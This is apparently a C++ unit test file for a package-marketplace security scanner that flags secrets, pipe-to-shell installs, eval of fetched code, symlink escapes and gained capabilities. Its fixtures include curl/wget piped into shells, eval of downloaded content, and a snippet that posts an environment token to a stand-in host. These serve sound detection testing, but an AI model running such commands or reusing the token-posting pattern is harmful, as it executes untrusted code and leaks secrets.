// The security scan: each rule finds what it names with its file and line and severity; clean
// packages pass; what a package can touch is seen, and a gained capability is flagged for review.
#include <gtest/gtest.h>

#include "actors/marketplace/scan.h"

namespace {

using namespace nf::marketplace;

scan_report scan_one(const std::string& path, const std::string& text) {
  return scan({scan_file{path, text, std::nullopt}});
}

bool has_finding(const scan_report& r, const std::string& rule, std::uint32_t line, const std::string& severity) {
  for (const auto& f : r.findings)
    if (f.rule == rule && f.line == line && f.severity == severity) return true;
  return false;
}

TEST(Scan, ACleanPackagePassesAndTouchesNothing) {
  const auto r = scan_one("main.py", "def run(task):\n    return task.upper()\n");
  EXPECT_TRUE(r.findings.empty());
  EXPECT_TRUE(r.passed());
  EXPECT_TRUE(r.touches.empty());
}

TEST(Scan, SecretsAreCritical) {
  const std::string rsa = "x\n-----BEGIN RSA PRIVATE KEY-----\nMIIE...\n-----END RSA PRIVATE KEY-----\n";
  auto r = scan_one("keys/id_rsa", rsa);
  EXPECT_TRUE(has_finding(r, "private-key", 2, "critical"));
  EXPECT_FALSE(r.passed());
  r = scan_one("cfg.env", "# aws\nAWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n");
  EXPECT_TRUE(has_finding(r, "cloud-access-key", 2, "critical"));
  EXPECT_TRUE(has_finding(r, "cloud-access-key", 3, "critical"));
  r = scan_one("a.js", "const t = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';\n");
  EXPECT_TRUE(has_finding(r, "cloud-access-key", 1, "critical"));
  // Near misses are not keys.
  EXPECT_TRUE(scan_one("a.txt", "AKIA is a prefix\nXAKIAIOSFODNN7EXAMPLE1\n-----BEGIN PUBLIC KEY-----\n").findings.empty());
}

TEST(Scan, PipingADownloadIntoAShellIsHigh) {
  for (const char* line : {"curl -fsSL https://x.example/install.sh | sh", "wget -qO- http://e.example/i | sudo -E bash",
                           "curl https://e.example/a|/bin/bash -s --", "curl -s https://e.example | python3"}) {
    const auto r = scan_one("install.sh", std::string("#!/bin/sh\n") + line + "\n");
    EXPECT_TRUE(has_finding(r, "pipe-to-shell", 2, "high")) << line;
    EXPECT_FALSE(r.passed()) << line;
  }
  EXPECT_FALSE(has_finding(scan_one("a.sh", "curl -o out.tar https://e.example/a || echo failed\n"), "pipe-to-shell", 1, "high"));
  EXPECT_FALSE(has_finding(scan_one("a.sh", "curl -o f https://e.example/a | grep shell\n"), "pipe-to-shell", 1, "high"));
}

TEST(Scan, EvaluatingWhatWasFetchedIsHigh) {
  EXPECT_TRUE(has_finding(scan_one("a.sh", "eval \"$(curl -s https://e.example/env)\"\n"), "eval-fetched", 1, "high"));
  EXPECT_TRUE(has_finding(scan_one("a.py", "exec(requests.get(URL).text)\n"), "eval-fetched", 1, "high"));
  EXPECT_TRUE(has_finding(scan_one("a.sh", "source <(curl -s https://e.example/x)\n"), "eval-fetched", 1, "high"));
  EXPECT_FALSE(has_finding(scan_one("a.py", "eval(expression)\n"), "eval-fetched", 1, "high"));
}

TEST(Scan, LinksAndPathsThatLeaveThePackageAndBigBinariesAreHigh) {
  auto r = scan({scan_file{"bin/tool", "", std::string("../../etc/passwd")}, scan_file{"bin/ok", "", std::string("../lib/tool.py")},
                 scan_file{"abs", "", std::string("/etc/shadow")}});
  EXPECT_EQ(r.findings.size(), 2u);
  EXPECT_EQ(r.findings[0].rule, "symlink-escape");
  EXPECT_EQ(r.findings[0].file, "bin/tool");
  EXPECT_EQ(r.findings[1].file, "abs");
  r = scan_one("../outside.txt", "hello\n");
  EXPECT_TRUE(has_finding(r, "path-traversal", 0, "high"));
  std::string blob(2 * 1024 * 1024, 'x');
  blob[10] = '\0';
  r = scan({scan_file{"model.bin", blob, std::nullopt}});
  EXPECT_TRUE(has_finding(r, "binary-size", 0, "high"));
  r = scan({scan_file{"model.bin", blob, std::nullopt}}, scan_options{.max_binary_bytes = 4 * 1024 * 1024});
  EXPECT_TRUE(r.findings.empty());
}

TEST(Scan, WhatAPackageTouchesIsSeenAndAGainedCapabilityIsFlagged) {
  const auto v1 = scan_one("run.py", "import json\nprint(json.dumps({}))\n");
  EXPECT_TRUE(v1.touches.empty());
  auto v2 = scan({scan_file{"run.py", "import os, requests\nkey = os.environ['TOKEN']\nrequests.post('https://e.example', data=key)\n", std::nullopt},
                  scan_file{"tool.sh", "#!/usr/bin/env bash\ncat /etc/hosts\n", std::nullopt}});
  EXPECT_EQ(v2.touches, (std::set<std::string>{"environment", "filesystem", "network", "shell"}));
  const auto gained = flag_gained(v2, v1.touches, "1.0.0");
  EXPECT_EQ(gained, (std::vector<std::string>{"environment", "filesystem", "network", "shell"}));
  bool network_flag = false;
  for (const auto& f : v2.findings)
    if (f.rule == "capability-gained" && f.file == "run.py" && f.line == 3 && f.severity == "review") network_flag = true;
  EXPECT_TRUE(network_flag);
  EXPECT_TRUE(v2.passed());  // a review finding does not fail the scan; the reviewer sees it
  auto v3 = v2;
  v3.findings.clear();
  EXPECT_TRUE(flag_gained(v3, v2.touches, "2.0.0").empty());
}

TEST(Scan, AHostileLongLineIsScannedInLinearTime) {
  std::string line(4 * 1024 * 1024, '|');
  for (std::size_t i = 0; i < line.size(); i += 7) line.replace(i, 4, "curl");
  const auto t0 = std::chrono::steady_clock::now();
  const auto r = scan_one("x.sh", line);
  EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(20));
  EXPECT_TRUE(r.touches.count("network"));
}

}  // namespace
